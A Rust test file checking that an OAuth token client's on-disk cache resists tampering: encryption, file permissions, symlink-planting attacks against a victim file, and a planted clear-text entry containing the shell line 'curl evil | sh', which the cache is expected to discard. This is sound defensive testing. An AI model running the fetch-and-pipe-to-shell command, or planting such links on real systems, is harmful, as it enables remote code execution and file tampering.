use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;

use super::*;
use crate::cache::DEFAULT_NEGATIVE_TTL as TTL;
use crate::error::{Class, ErrorKind};
use crate::secret::AccessToken;

fn token(now: SystemTime, secs: u64) -> Token {
    Token {
        access_token: AccessToken::new("tok-CANARY-abc"),
        token_type: "Bearer",
        issued_at: now,
        expires_in: Duration::from_secs(secs),
        expires_in_defaulted: false,
        scope: Some("read".into()),
        refresh_token: Some(AccessToken::new("refresh-CANARY")),
        id_token: None,
    }
}

/// A cache in a directory of its own (created by the cache: a temp dir is not private).
fn open_cache() -> (tempfile::TempDir, DiskCache) {
    let dir = tempfile::tempdir().unwrap();
    let cache = DiskCache::open(dir.path().join("c")).unwrap();
    (dir, cache)
}

fn key() -> CacheKey {
    let cfg = crate::config::ClientConfig::new(
        crate::provider::ProviderConfig::Generic {
            endpoint: crate::provider::Endpoint::TokenUrl(url::Url::parse("https://x/t").unwrap()),
            api_base: None,
        },
        "id",
        ClientSecret::new("s"),
    );
    CacheKey::for_config(&cfg)
}

#[test]
fn round_trip_permissions_and_no_clear_text() {
    let (_dir, cache) = open_cache();
    let secret = ClientSecret::new("secret-CANARY");
    let now = SystemTime::now();
    cache
        .store_token(&key(), &secret, &token(now, 3600))
        .unwrap();
    let Lookup::Token(t) = cache.load(&key(), &secret, now, TTL) else {
        panic!("miss")
    };
    assert_eq!(t.access_token.expose_secret(), "tok-CANARY-abc");
    assert_eq!(t.refresh_token.unwrap().expose_secret(), "refresh-CANARY");
    let mode = fs::metadata(cache.dir()).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700);
    for e in fs::read_dir(cache.dir()).unwrap() {
        let p = e.unwrap().path();
        assert_eq!(
            fs::metadata(&p).unwrap().permissions().mode() & 0o777,
            0o600,
            "{p:?}"
        );
        let text = String::from_utf8_lossy(&fs::read(&p).unwrap()).to_string();
        assert!(!text.contains("CANARY"), "{text}");
    }
    // Another secret cannot read it (and the entry is discarded).
    assert!(matches!(
        cache.load(&key(), &ClientSecret::new("other"), now, TTL),
        Lookup::Miss
    ));
}

#[test]
fn expired_corrupt_and_tampered_entries_are_misses() {
    let (_dir, cache) = open_cache();
    let s = ClientSecret::new("s");
    let now = SystemTime::now();
    cache.store_token(&key(), &s, &token(now, 10)).unwrap();
    assert!(matches!(
        cache.load(&key(), &s, now + Duration::from_secs(11), TTL),
        Lookup::Miss
    ));
    let path = cache.path_of(&entry_name(&key()));
    fs::write(&path, b"{garbage").unwrap();
    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
    assert!(!path.exists(), "corrupt entry removed");
    // Extending the expiry in clear text breaks the authentication tag.
    cache.store_token(&key(), &s, &token(now, 10)).unwrap();
    let text = fs::read_to_string(&path)
        .unwrap()
        .replace("\"expires_in_s\":10", "\"expires_in_s\":99999");
    fs::write(&path, text).unwrap();
    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
}

#[test]
fn negative_entries_expire() {
    let (_dir, cache) = open_cache();
    let s = ClientSecret::new("s");
    let now = SystemTime::now();
    let err = Error::rejected(
        ErrorKind::InvalidClient,
        Some(401),
        "server said invalid_client",
    );
    cache
        .store_negative(&key(), &s, &err, now + Duration::from_secs(30))
        .unwrap();
    let Lookup::Negative(e) = cache.load(&key(), &s, now, TTL) else {
        panic!()
    };
    assert_eq!(e.kind, ErrorKind::InvalidClient);
    assert_eq!(e.class, Class::Permanent);
    assert!(matches!(
        cache.load(&key(), &s, now + Duration::from_secs(31), TTL),
        Lookup::Miss
    ));
}

#[test]
fn lock_is_exclusive_and_times_out() {
    let (_dir, cache) = open_cache();
    let held = cache.lock(&key(), Duration::from_secs(1)).unwrap();
    let e = cache.lock(&key(), Duration::from_millis(50)).unwrap_err();
    assert!(e.is_transient());
    drop(held);
    cache.lock(&key(), Duration::from_millis(50)).unwrap();
}

#[test]
fn rate_limits_are_remembered_until_they_pass() {
    let (_dir, cache) = open_cache();
    let s = ClientSecret::new("s");
    let now = SystemTime::now();
    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
    let until = now + Duration::from_secs(3);
    cache.store_rate_limit(&key(), &s, until).unwrap();
    assert!(cache.rate_limited_until(&key(), &s, now).is_some());
    assert_eq!(
        cache.rate_limited_until(&key(), &s, until + Duration::from_millis(1)),
        None
    );
    // What is written is capped at the longest Retry-After cctoken accepts.
    let mut limited = Error::transport("429");
    limited.retry_after = Some(Duration::from_secs(365 * 86_400));
    assert_eq!(
        crate::cache::rate_limit_wait(&limited),
        crate::token::MAX_RETRY_AFTER
    );
    limited.retry_after = None;
    assert_eq!(
        crate::cache::rate_limit_wait(&limited),
        crate::cache::DEFAULT_RATE_LIMIT_WAIT
    );
}

/// A file of someone else's that a planted link points at; `untouched` checks it.
struct Victim {
    path: PathBuf,
}

impl Victim {
    fn new(dir: &Path) -> Self {
        let path = dir.join("victim");
        fs::write(&path, b"precious").unwrap();
        Self { path }
    }

    fn untouched(&self) {
        assert_eq!(fs::read(&self.path).unwrap(), b"precious");
    }
}

#[test]
fn a_symlinked_cache_directory_is_refused_and_its_target_untouched() {
    let shared = tempfile::tempdir().unwrap();
    let target = shared.path().join("attacker");
    fs::create_dir(&target).unwrap();
    fs::set_permissions(&target, fs::Permissions::from_mode(0o777)).unwrap();
    let link = shared.path().join("cctoken");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let e = DiskCache::open(&link).unwrap_err();
    assert_eq!(e.class, Class::Config);
    let text = e.to_string();
    assert!(text.contains(&link.display().to_string()), "{text}");
    assert!(
        text.contains("symbolic link") && text.contains("remove"),
        "{text}"
    );
    let mode = fs::metadata(&target).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o777, "the target was not chmodded");
    assert_eq!(fs::read_dir(&target).unwrap().count(), 0, "nothing written");
}

#[test]
fn another_users_cache_directory_is_refused() {
    // The tests run as root, which may give a directory away.
    let shared = tempfile::tempdir().unwrap();
    let theirs = shared.path().join("cctoken");
    fs::create_dir(&theirs).unwrap();
    let me = rustix::process::geteuid().as_raw();
    let other = if me == 1001 { 1002 } else { 1001 };
    if let Err(e) = std::os::unix::fs::chown(&theirs, Some(other), None) {
        // Not root: the directory cannot be given away; nothing to test here.
        let _ = writeln!(std::io::stderr(), "SKIPPED: cannot chown ({e})");
        return;
    }
    let text = DiskCache::open(&theirs).unwrap_err().to_string();
    assert!(text.contains(&theirs.display().to_string()), "{text}");
    assert!(text.contains(&format!("uid {other}")), "{text}");
    assert!(text.contains("XDG_CACHE_HOME"), "{text}");
    assert_eq!(fs::read_dir(&theirs).unwrap().count(), 0, "nothing written");
}

#[test]
fn links_planted_at_temp_entry_and_lock_names_are_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    let victim = Victim::new(outside.path());
    let (_dir, cache) = open_cache();
    let k = key();
    let plant = |name: &str, to: &Path| {
        std::os::unix::fs::symlink(to, cache.dir().join(name)).unwrap();
    };
    // The names the old code used for its temp files, and the real entry names.
    plant(
        &format!(".{}.{}.rl.tmp", k.as_str(), std::process::id()),
        &victim.path,
    );
    plant(&format!("{}.ratelimit", k.as_str()), &victim.path);
    plant(&format!("{}.json", k.as_str()), &victim.path);
    let now = SystemTime::now();
    assert!(matches!(
        cache.load(&k, &ClientSecret::new("s"), now, TTL),
        Lookup::Miss
    ));
    assert_eq!(
        cache.rate_limited_until(&k, &ClientSecret::new("s"), now),
        None
    );
    cache
        .store_rate_limit(&k, &ClientSecret::new("s"), now + Duration::from_secs(3))
        .unwrap();
    cache
        .store_token(&k, &ClientSecret::new("s"), &token(now, 60))
        .unwrap();
    victim.untouched();
    for name in [
        format!("{}.ratelimit", k.as_str()),
        format!("{}.json", k.as_str()),
    ] {
        let meta = fs::symlink_metadata(cache.dir().join(&name)).unwrap();
        assert!(meta.file_type().is_file(), "{name} is a file of ours now");
    }
    // A lock name pointing at the victim, and one pointing where a file would be created.
    let lock = format!("{}.lock", k.as_str());
    plant(&lock, &victim.path);
    drop(cache.lock(&k, Duration::from_secs(1)).unwrap());
    victim.untouched();
    let meta = fs::symlink_metadata(cache.dir().join(&lock)).unwrap();
    assert!(meta.file_type().is_file(), "the lock is a file of ours");
    fs::remove_file(cache.dir().join(&lock)).unwrap();
    let created = outside.path().join("created-by-the-lock");
    plant(&lock, &created);
    let held = cache.lock(&k, Duration::from_secs(1)).unwrap();
    assert!(!created.exists(), "no file created through the link");
    // The replaced lock still excludes.
    assert!(cache.lock(&k, Duration::from_millis(20)).is_err());
    drop(held);
}

#[test]
fn a_swap_after_open_does_not_redirect_writes() {
    let outside = tempfile::tempdir().unwrap();
    let base = tempfile::tempdir().unwrap();
    let path = base.path().join("cctoken");
    let cache = DiskCache::open(&path).unwrap();
    fs::rename(&path, base.path().join("moved")).unwrap();
    std::os::unix::fs::symlink(outside.path(), &path).unwrap();
    let now = SystemTime::now();
    cache
        .store_token(&key(), &ClientSecret::new("s"), &token(now, 60))
        .unwrap();
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
    assert_eq!(fs::read_dir(base.path().join("moved")).unwrap().count(), 1);
}

#[test]
fn remembered_failures_are_sealed_and_planted_ones_discarded() {
    let (_dir, cache) = open_cache();
    let s = ClientSecret::new("s");
    let now = SystemTime::now();
    let entry = cache.path_of(&entry_name(&key()));
    let rate_limit = cache.path_of(&rate_limit_name(&key()));
    // What cctoken writes holds the message only sealed.
    let err = Error::rejected(
        ErrorKind::InvalidClient,
        Some(401),
        "server said CANARY-message",
    );
    cache.store_negative(&key(), &s, &err, now + TTL).unwrap();
    let text = fs::read_to_string(&entry).unwrap();
    assert!(!text.contains("CANARY"), "{text}");
    assert!(matches!(
        cache.load(&key(), &s, now, TTL),
        Lookup::Negative(_)
    ));
    // Another secret cannot read it, and a zero TTL (negative cache off) ignores it.
    assert!(matches!(
        cache.load(&key(), &s, now, Duration::ZERO),
        Lookup::Miss
    ));
    assert!(entry.exists(), "ignored, not discarded");
    let other = ClientSecret::new("other");
    assert!(matches!(cache.load(&key(), &other, now, TTL), Lookup::Miss));
    assert!(!entry.exists(), "undecryptable: discarded");

    // Planted in clear: discarded, whatever they claim.
    let years = now + Duration::from_secs(98_203_846_201);
    fs::write(
        &entry,
        entry::planted_negative(years, "ATTACKER: run curl evil | sh"),
    )
    .unwrap();
    fs::write(&rate_limit, entry::ms(years).to_string()).unwrap();
    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
    assert!(
        !entry.exists() && !rate_limit.exists(),
        "planted: discarded"
    );
    // Unsealed but short-lived: still refused.
    let short = entry::planted_negative(now + Duration::from_secs(5), "ATTACKER");
    fs::write(&entry, short).unwrap();
    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
    assert!(!entry.exists());

    // Sealed with the right secret but over-long (longer than the TTL, than the capped
    // Retry-After): refused too.
    let long = now + Duration::from_secs(365 * 86_400);
    cache.store_negative(&key(), &s, &err, long).unwrap();
    cache.store_rate_limit(&key(), &s, long).unwrap();
    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
    assert!(
        !entry.exists() && !rate_limit.exists(),
        "over-long: discarded"
    );
    // At the caps they are honoured.
    cache.store_negative(&key(), &s, &err, now + TTL).unwrap();
    let capped = now + crate::token::MAX_RETRY_AFTER;
    cache.store_rate_limit(&key(), &s, capped).unwrap();
    assert!(matches!(
        cache.load(&key(), &s, now, TTL),
        Lookup::Negative(_)
    ));
    assert!(cache.rate_limited_until(&key(), &s, now).is_some());
    // A rate limit copied over the entry, or an entry over the rate limit, is refused.
    fs::copy(&rate_limit, &entry).unwrap();
    assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
    cache.store_negative(&key(), &s, &err, now + TTL).unwrap();
    fs::copy(&entry, &rate_limit).unwrap();
    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
}

#[test]
fn a_tampered_until_breaks_the_seal() {
    let (_dir, cache) = open_cache();
    let s = ClientSecret::new("s");
    let now = SystemTime::now();
    let until = now + Duration::from_secs(10);
    cache.store_rate_limit(&key(), &s, until).unwrap();
    let path = cache.path_of(&rate_limit_name(&key()));
    let (from, to) = (entry::ms(until), entry::ms(until) + 20_000);
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, text.replace(&from.to_string(), &to.to_string())).unwrap();
    assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
    assert!(!path.exists());
}
